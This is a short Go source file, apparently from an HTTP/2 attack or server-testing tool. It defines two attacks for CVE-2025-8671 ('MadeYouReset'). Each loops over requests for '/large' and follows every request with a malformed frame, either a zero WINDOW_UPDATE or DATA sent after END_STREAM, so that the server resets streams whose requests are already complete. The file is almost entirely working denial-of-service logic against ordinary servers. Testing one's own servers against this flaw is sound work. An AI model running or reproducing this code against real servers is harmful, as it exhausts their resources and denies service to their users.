package main

import (
	"context"

	"golang.org/x/net/http2"
)

// madeYouReset has the server reset streams whose requests are whole.
var madeYouReset = &attack{
	name: "made-you-reset", what: "WINDOW_UPDATE of 0 behind each request (CVE-2025-8671)",
	run: func(ctx context.Context, e *enemy) error {
		for ctx.Err() == nil {
			id, err := e.get("/large")
			if err != nil {
				return err
			}
			if err := e.frame(http2.FrameWindowUpdate, 0, id, make([]byte, 4)); err != nil {
				return err
			}
		}
		return nil
	},
}

var madeYouResetData = &attack{
	name: "made-you-reset-data", what: "DATA behind END_STREAM of each request (CVE-2025-8671)",
	run: func(ctx context.Context, e *enemy) error {
		for ctx.Err() == nil {
			id, err := e.get("/large")
			if err != nil {
				return err
			}
			if err := e.frame(http2.FrameData, 0, id, []byte("x")); err != nil {
				return err
			}
		}
		return nil
	},
}
